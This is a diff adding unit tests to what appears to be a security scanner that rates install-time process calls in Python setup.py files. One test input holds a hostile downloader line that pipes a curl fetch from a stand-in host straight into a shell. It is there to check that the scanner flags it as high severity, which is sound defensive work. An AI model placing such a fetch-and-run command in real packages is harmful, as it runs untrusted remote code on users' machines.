@@ -88,3 +88,21 @@ describe('runRules never throws', () => {
     ]);
   });
 });
+
+describe('install-time-process weighs the command', () => {
+  const severityOf = (source: string) =>
+    runRules(parsePython(source, 'pkg-1.0/setup.py')).find((e) => e.rule === 'install-time-process')
+      ?.severity;
+  it('is medium for a build helper inside a function', () => {
+    expect(
+      severityOf(
+        'import subprocess\ndef version():\n    return subprocess.check_output(["git", "describe"])\n',
+      ),
+    ).toBe('medium');
+  });
+  it('is high for a downloader, even inside a function', () => {
+    expect(severityOf('import os\ndef f():\n    os.system("curl -s http://x.example/a | sh")\n')).toBe(
+      'high',
+    );
+  });
+});
